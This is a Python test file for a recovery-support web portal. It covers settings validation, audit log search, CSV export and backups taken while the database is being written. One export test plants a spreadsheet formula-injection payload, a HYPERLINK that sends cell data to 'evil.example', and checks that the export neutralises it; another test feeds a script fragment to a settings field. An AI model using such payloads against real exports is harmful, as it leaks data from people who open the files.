"""Service settings, the audit trail search and export, and backups of a live database."""

from __future__ import annotations

import csv
import io
import multiprocessing
import sqlite3
import time

import pytest
from sqlalchemy import select

from portal.audit import AuditEvent, audit
from portal.extensions import db
from portal.settings import SETTINGS, get_setting

from ..clock import for_children
from ..factories import make_user


def _settings_data(**changes) -> dict:
    data = {
        "service_name": "Peer accompaniment",
        "emergency_number": "999",
        "on_call_number": "",
        **{name: spec.default for name, spec in SETTINGS.items() if spec.kind in ("int", "time")},
        "stale_meeting_days": 90,
        "min_recovery_months": 12,
        **{
            name: "yes" if spec.default else "no"
            for name, spec in SETTINGS.items()
            if spec.kind == "yesno"
        },
    }
    data.update(changes)
    return data


def test_settings_page_saves_validates_and_audits(app, login_as, browser):
    login_as("admin")
    page = browser.client.get("/admin/settings").get_data(as_text=True)
    assert "Offers expire after (hours)" in page and 'value="24"' in page
    response = browser.post(
        "/admin/settings",
        _settings_data(
            service_name="Northtown Recovery", on_call_number="0161 496 0000", offer_expiry_hours=12
        ),
    )
    assert response.status_code == 303
    with app.app_context():
        assert get_setting("offer_expiry_hours") == 12
        assert get_setting("on_call_number") == "0161 496 0000"
        event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "settings_changed"))
        assert '"offer_expiry_hours": 12' in event.detail
    assert "Northtown Recovery" in browser.client.get("/admin/").get_data(as_text=True)


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"offer_expiry_hours": 0}, "from 1 to 168"),
        ({"offer_expiry_hours": "soon"}, "whole number"),
        ({"checkout_grace_minutes": 100000}, "from 15 to 480"),
        ({"emergency_number": "call 999 <script>"}, "enter a phone number"),
        ({"service_name": ""}, "enter a value"),
        ({"service_name": "x" * 101}, "100 characters or fewer"),
    ],
)
def test_bad_settings_are_refused_by_the_field(app, login_as, browser, changes, message):
    login_as("admin")
    response = browser.post("/admin/settings", _settings_data(**changes))
    assert response.status_code == 200
    assert message in response.get_data(as_text=True)
    with app.app_context():
        assert get_setting("offer_expiry_hours") == 24


def test_settings_fall_back_to_configuration(app):
    app.config["MEETING_STALE_DAYS"] = 30
    with app.app_context():
        assert get_setting("stale_meeting_days") == 30


def test_audit_search_by_person_action_and_date(app, login_as, browser, client):
    login_as("admin")
    make_user(email="kw@example.org", name="Kai Worker")
    from ..conftest import Browserless

    Browserless(app.test_client()).sign_in("kw@example.org", "wrong password for sure")
    html = client.get("/admin/audit?person=kai").get_data(as_text=True)
    assert "Kai Worker" in html and "sign in failed" in html
    html = client.get("/admin/audit?action=sign_in_failed").get_data(as_text=True)
    assert "1 record" in html
    assert "No records match" in client.get(
        "/admin/audit?since=2001-01-01&until=2001-01-02"
    ).get_data(as_text=True)
    bad = client.get("/admin/audit?since=yesterday").get_data(as_text=True)
    assert "Enter a date like" in bad
    fragment = client.get("/admin/audit?person=kai", headers={"HX-Request": "true"}).get_data(
        as_text=True
    )
    assert "<html" not in fragment and 'id="audit-results"' in fragment


@pytest.mark.parametrize("query", ["until=9999-12-31", "since=0001-01-01&until=9999-12-31"])
def test_audit_search_to_the_last_day_there_is(login_as, client, query):
    # found by tests/test_fuzz.py: the day after 9999-12-31 overflowed (500)
    login_as("admin")
    assert client.get(f"/admin/audit?{query}").status_code == 200
    assert client.get(f"/admin/audit.csv?{query}").status_code == 200


def test_audit_export_is_csv_of_the_search_and_is_itself_audited(app, login_as, client):
    login_as("admin")
    make_user(name="=HYPERLINK(evil)")
    response = client.get("/admin/audit.csv?action=sign_in")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][0] == "when (UTC)"
    assert all(row[3].startswith("sign_in") for row in rows[1:]) and len(rows) > 1
    with app.app_context():
        assert db.session.scalar(select(AuditEvent).where(AuditEvent.action == "audit_exported"))


def test_audit_export_neutralises_formulas_in_every_column(app, login_as, client):
    # Found by an attack session: a name like this, typed by whoever invited the person, reached
    # the admin's spreadsheet as a live formula through the "who" column.
    login_as("admin")
    planted = make_user(
        name='=HYPERLINK("http://evil.example/?"&A1,"Open")', email="-x@example.org"
    )
    with app.app_context():
        audit("password_changed", planted, actor_id=planted.id, client_ref="+CR1")
        db.session.commit()
    rows = list(csv.reader(io.StringIO(client.get("/admin/audit.csv").get_data(as_text=True))))
    mine = [row for row in rows if row[2] == "'-x@example.org"]
    assert mine and mine[0][1].startswith("'=HYPERLINK") and mine[0][6] == "'+CR1"
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]


# --- backups -----------------------------------------------------------------------------------


def _writer(path: str, seconds: float) -> int:
    connection = sqlite3.connect(path, timeout=30)
    connection.execute("PRAGMA busy_timeout=30000")
    written = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        connection.execute("BEGIN IMMEDIATE")
        connection.executemany(
            "INSERT INTO sign_in_failures (address, at) VALUES (?, '2026-01-01 00:00:00')",
            [(f"load:{written}:{i}",) for i in range(50)],
        )
        connection.execute("COMMIT")
        written += 50
    connection.close()
    return written


def test_backup_while_writes_go_on_then_restore(app, app_config, runner, tmp_path):
    with app.app_context():
        if db.engine.dialect.name != "sqlite":
            result = runner.invoke(args=["backup", str(tmp_path / "copy.sqlite3")])
            assert result.exit_code != 0 and "pg_dump" in result.output
            return
        path = db.engine.url.database
    make_user(email="kept@example.org")
    context = multiprocessing.get_context("spawn")
    with context.Pool(1, **for_children()) as pool:
        pending = pool.apply_async(_writer, (path, 3.0))
        time.sleep(0.5)
        target = tmp_path / "backup" / "copy.sqlite3"
        result = runner.invoke(args=["backup", str(target)])
        written = pending.get(timeout=60)
    assert result.exit_code == 0, result.output
    assert written > 0
    copy = sqlite3.connect(target)
    assert copy.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    copied = copy.execute("SELECT count(*) FROM sign_in_failures").fetchone()[0]
    assert copied % 50 == 0  # whole transactions only
    assert 0 <= copied <= written
    copy.close()

    from portal import create_app

    restored = create_app({**app_config, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{target}"})
    with restored.app_context():
        from portal.auth.models import User

        assert db.session.scalar(select(User.email).where(User.email == "kept@example.org"))
        db.engine.dispose()
    again = runner.invoke(args=["backup", str(target)])
    assert again.exit_code != 0 and "already exists" in again.output
